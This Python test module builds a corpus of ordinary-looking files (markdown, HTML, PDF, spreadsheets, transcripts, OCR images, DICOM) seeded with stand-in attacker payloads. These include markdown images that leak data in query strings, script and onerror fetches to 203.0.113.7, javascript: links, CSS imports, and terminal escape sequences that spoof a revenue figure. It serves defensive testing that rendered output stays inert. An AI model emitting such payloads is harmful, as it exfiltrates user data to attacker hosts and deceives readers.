"""The hostile-output corpus: ordinary-looking material of every ingestible kind whose text, names,
speakers, cells, tags and link annotations hold markup and terminal escapes that must stay inert.

Made here by :func:`build` (never downloaded). Every URL points at ``203.0.113.7`` (TEST-NET-3, never
routed) or ``attacker.example``; the tests block any request to them anyway and count the attempts.
Each file also states one figure under its own topic word (``The alpha figure was $1.1 million.``) so
that questions naming topics retrieve it.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

from tests.reliability.corpus import dicom_bytes, wav_bytes

HOST = "203.0.113.7"
ESC = "\x1b"
PAYLOADS = {
    "md_image": f"![chart](http://{HOST}/pixel.png?leak=revenue)",
    "md_ref_image": f"![logo][r1]\n\n[r1]: http://{HOST}/ref.png",
    "md_link": f"See [details](http://{HOST}/details).",
    "md_ref_link": f"See [the note][r2].\n\n[r2]: http://{HOST}/ref-link \"title\"",
    "md_collapsed_ref": f"![pic][]\n\n[pic]: http://{HOST}/collapsed.png",
    "autolink": f"<http://{HOST}/auto> <https://attacker.example/auto2>",
    "bare_url": f"http://{HOST}/bare www.attacker.example/www leak@attacker.example",
    "html_img": f'<img src="http://{HOST}/img.png"> <img src=x onerror="fetch(\'http://{HOST}/onerror\')">',
    "script": f"<script>new Image().src='http://{HOST}/script.png'</script>",
    "iframe": f'<iframe src="http://{HOST}/frame"></iframe> <object data="http://{HOST}/obj"></object>',
    "media": f'<video src="http://{HOST}/v.mp4"></video><audio src="http://{HOST}/a.mp3"></audio>',
    "svg": f'<svg><image href="http://{HOST}/svg.png"/></svg>',
    "js_url": "[open](javascript:alert(document.domain)) <a href=\"javascript:alert(1)\">x</a>",
    "data_url": "![d](data:image/png;base64,iVBORw0KGgo=) [x](data:text/html,<script>alert(1)</script>)",
    "css": f"<style>@import url(http://{HOST}/i.css); body{{background:url(http://{HOST}/css.png)}}</style>",
    "css_inline": f'<div style="background-image:url(http://{HOST}/bg.png)">styled</div>',
    "link_tag": f'<link rel="stylesheet" href="http://{HOST}/l.css">',
    "entities": f"&lt;img src=http://{HOST}/ent.png&gt; &#33;&#91;e&#93;&#40;http://{HOST}/ent2.png&#41;",
    "lookalike": f"！［fw］（http://{HOST}/fw.png） ＜img src=http://{HOST}/fw2.png＞ ﹤img src=http://{HOST}/small.png﹥",
    "directives": ":red[red text] $x^2$ :material/home: :smile: **bold** # heading",
    "ansi": f"{ESC}[2J{ESC}[31mFAKE: revenue was $99 billion{ESC}[0m",
    "osc8": f"{ESC}]8;;http://{HOST}/osc{ESC}\\click here{ESC}]8;;{ESC}\\ {ESC}]0;title\x07",
    "dcs": f"{ESC}P1$r0m{ESC}\\ \x9b31mc1\x9b0m",
}
TOPICS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliet",
          "kilo", "lima", "mike", "november", "oscar", "papa", "quebec", "romeo", "sierra", "tango",
          "uniform", "victor", "whiskey", "xray", "yankee", "zulu", "amber", "basil", "cedar", "dune",
          "ember", "fjord", "garnet", "harbor"]


@dataclass(frozen=True)
class HostileFile:
    path: Path
    kind: str  # markdown | text | html | pdf | table | transcript | image | audio
    topic: str  # the word its figure is stated under ('' when it states none)


def sentence(topic: str, index: int) -> str:
    return f"The {topic} figure was ${index}.{index} million."


def all_payloads(*names: str) -> str:
    return " ".join(PAYLOADS[n] for n in (names or PAYLOADS))


def _pdf(text_lines: list[str], uri: str) -> bytes:
    import pymupdf

    doc = pymupdf.open()
    page = doc.new_page()
    for i, line in enumerate(text_lines):
        page.insert_text((40, 60 + 16 * i), line, fontsize=9)
    page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(40, 40, 300, 70), "uri": uri})
    return doc.tobytes()


def _xlsx(rows: list[list[str]]) -> bytes:
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    sheet["C2"].hyperlink = f"http://{HOST}/xlsx-link"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def ocr_png(lines: list[str]) -> bytes:
    """Large black text on white, which rapidocr reads back line by line."""
    import io

    font = ImageFont.load_default(size=36)
    image = Image.new("RGB", (1100, 70 + 60 * len(lines)), "white")
    draw = ImageDraw.Draw(image)
    for i, line in enumerate(lines):
        draw.text((30, 30 + 60 * i), line, fill="black", font=font)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def build(folder: Path) -> list[HostileFile]:
    """Write the corpus into ``folder`` (created) and return its files (at least 30)."""
    folder.mkdir(parents=True, exist_ok=True)
    files: list[HostileFile] = []
    topics = iter(TOPICS)
    index = iter(range(1, 100))

    def add(name: str, kind: str, data: bytes | str, topic: str = "") -> None:
        path = folder / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        files.append(HostileFile(path, kind, topic))

    def doc(payload_names: tuple[str, ...], heading: bool = True) -> tuple[str, str]:
        topic, n = next(topics), next(index)
        head = f"# {topic.title()} note\n\n" if heading else ""
        return topic, f"{head}{sentence(topic, n)} {all_payloads(*payload_names)}\n\nAfter the payload: {topic} margin held at {n}%.\n"

    # Markdown, one payload family each, plus the memo
    groups = [("md_image",), ("md_ref_image", "md_collapsed_ref"), ("md_link", "md_ref_link"), ("autolink", "bare_url"),
              ("html_img", "script", "iframe"), ("media", "svg", "link_tag"), ("js_url", "data_url"), ("css", "css_inline"),
              ("entities",), ("lookalike",), ("directives",)]
    for group in groups:
        topic, text = doc(group)
        add(f"{group[0].replace('_', '-')}.md", "markdown", text, topic)
    add("memo.md", "markdown", f"Quarterly revenue was $9.9 million. ![chart](http://{HOST}/pixel.png?leak=revenue) "
        f"See [details](http://{HOST}/details).\n", "revenue")
    # plain text: the second note, the terminal payloads, everything at once
    add("memo.txt", "text", f"Quarterly bookings were $7.7 million. ![t](http://{HOST}/t.png?q=bookings)\n", "bookings")
    topic, text = doc(("ansi", "osc8", "dcs"), heading=False)
    add("terminal.txt", "text", text, topic)
    topic, text = doc((), heading=False)
    add("everything.txt", "text", text, topic)
    # bad input: text that is only markup still ingests and shows as plain text
    add("only-markup.md", "markdown", all_payloads("md_image", "md_link", "html_img", "script", "iframe", "css") + "\n")
    add("only-markup.txt", "text", all_payloads("md_ref_image", "autolink", "js_url", "ansi", "osc8") + "\n")
    # HTML: live tags (dropped by the reader) and escaped ones (which become text)
    topic, n = next(topics), next(index)
    escaped = all_payloads("html_img", "script", "iframe").replace("<", "&lt;").replace(">", "&gt;")
    add("page.html", "html", f"<html><head><style>body{{background:url(http://{HOST}/h.png)}}</style>"
        f"<link rel=stylesheet href=http://{HOST}/h.css></head><body><h1>{topic.title()}</h1><p>{sentence(topic, n)} "
        f"{escaped} {PAYLOADS['md_image']}</p><img src=http://{HOST}/live.png><script>fetch('http://{HOST}/live')</script>"
        f"<iframe src=http://{HOST}/liveframe></iframe><p><a href=\"javascript:alert(1)\">{PAYLOADS['md_link']}</a></p></body></html>", topic)
    topic, n = next(topics), next(index)
    add("entities.html", "html", f"<p>{sentence(topic, n)} &lt;img src=&quot;http://{HOST}/e.png&quot;&gt; &amp;lt;b&amp;gt; "
        f"&#x21;&#x5B;x&#x5D;&#x28;http://{HOST}/e2.png&#x29;</p>", topic)
    # PDF: text with payloads and a link annotation
    topic, n = next(topics), next(index)
    add("links.pdf", "pdf", _pdf([sentence(topic, n), PAYLOADS["md_image"], PAYLOADS["html_img"], PAYLOADS["autolink"],
                                 PAYLOADS["js_url"], PAYLOADS["lookalike"]], f"http://{HOST}/pdf-link"), topic)
    add("only-markup.pdf", "pdf", _pdf([PAYLOADS["md_ref_image"].replace("\n\n", " "), PAYLOADS["iframe"]], "javascript:alert(1)"))
    # tables: payloads in cells (and an XLSX cell hyperlink)
    topic, n = next(topics), next(index)
    cells = [["Item", "Value", "Note"], [f"{topic} figure", f"{n}.{n}", PAYLOADS["md_image"]],
             [PAYLOADS["html_img"], "2.0", PAYLOADS["md_link"]], [PAYLOADS["ansi"], "3.0", PAYLOADS["lookalike"]]]
    add("cells.csv", "table", "\n".join(",".join(json.dumps(c) for c in row) for row in cells) + "\n", topic)
    topic, n = next(topics), next(index)
    add("cells.tsv", "table", "\n".join("\t".join(c.replace("\t", " ") for c in row) for row in
                                        [["Item", "Value"], [f"{topic} figure", f"{n}.{n}"], [PAYLOADS["script"], PAYLOADS["autolink"]]]) + "\n", topic)
    topic, n = next(topics), next(index)
    add("cells.xlsx", "table", _xlsx([["Item", "Value", "Note"], [f"{topic} figure", f"{n}.{n}", PAYLOADS["md_ref_link"]],
                                      [PAYLOADS["iframe"], "5", PAYLOADS["js_url"]]]), topic)
    # transcripts: speakers and cue text
    topic, n = next(topics), next(index)
    add("call.vtt", "transcript", f"WEBVTT\n\n00:00:01.000 --> 00:00:05.000\n<v ![s](http://{HOST}/speaker-leak.png)>"
        f"{sentence(topic, n)} {PAYLOADS['md_link']}\n\n00:00:05.000 --> 00:00:09.000\n<v CFO>{PAYLOADS['md_image']} "
        f"{PAYLOADS['ansi']}\n", topic)
    topic, n = next(topics), next(index)
    add("call.srt", "transcript", f"1\n00:00:01,000 --> 00:00:04,000\n{sentence(topic, n)} {PAYLOADS['md_image']}\n\n"
        f"2\n00:00:04,000 --> 00:00:08,000\n[{HOST}]: {PAYLOADS['autolink']} {PAYLOADS['osc8']}\n", topic)
    topic, n = next(topics), next(index)
    add("call.json", "transcript", json.dumps({"segments": [
        {"start": 0.0, "end": 4.0, "speaker": f"<img src=http://{HOST}/json-speaker.png>", "text": f"{sentence(topic, n)} {PAYLOADS['md_ref_image']}"},
        {"start": 4.0, "end": 8.0, "speaker": f"{ESC}[31mCEO{ESC}[0m", "text": PAYLOADS["lookalike"]}]}), topic)
    # a recording whose speaker sidecar names a markdown image (the fake transcriber supplies the words)
    add("meeting.wav", "audio", wav_bytes(6.0))
    (folder / "meeting.speakers.json").write_text(json.dumps([
        {"start": 0, "end": 6, "speaker": f"![m](http://{HOST}/sidecar-speaker.png) {ESC}]8;;http://{HOST}/o{ESC}\\CFO{ESC}]8;;{ESC}\\"}]))
    # an image whose OCR reads as markdown, and a DICOM whose description is markup
    topic, n = next(topics), next(index)
    add("slide.png", "image", ocr_png([f"{topic} figure {n}.{n}", f"![x](http://{HOST}/ocr.png)", f"<img src=http://{HOST}/o2.png>"]), topic)
    add("scan.dcm", "image", hostile_dicom())
    # file names holding markup and escapes (names from disk are not sanitised)
    topic, text = doc(("md_image",))
    add("S ![k](https:attacker.example?victim=acme) s.md", "markdown", text, topic)
    topic, text = doc(("md_link",))
    add(f"<img src=http:{HOST}?n=1>.txt", "text", text, topic)
    topic, text = doc(("js_url",))
    add(f"name{ESC}[31m red{ESC}]8;;http:{HOST}\x07.txt", "text", text, topic)
    return files


def hostile_dicom(escapes: bool = False) -> bytes:
    """A DICOM whose descriptions are markup (and, with ``escapes``, a terminal escape, which
    pydicom reads as an unknown ISO 2022 switch: ingest then refuses it as malformed)."""
    import io

    import pydicom

    ds = pydicom.dcmread(io.BytesIO(dicom_bytes()))
    ds.StudyDescription = (f"![d](http://{HOST}/dicom.png)" + (f" {ESC}[2J" if escapes else ""))[:64]
    ds.SeriesDescription = f"<img src=http://{HOST}/series.png>"
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def questions(files: list[HostileFile], per_question: int = 10) -> list[str]:
    """Questions that together name every topic (``per_question`` topics each)."""
    topics = [f.topic for f in files if f.topic and f.topic not in ("revenue", "bookings")]
    groups = [topics[i:i + per_question] for i in range(0, len(topics), per_question)]
    return ["What was quarterly revenue?", "What were quarterly bookings?"] + [
        "What was the " + ", ".join(group) + " figure?" for group in groups]
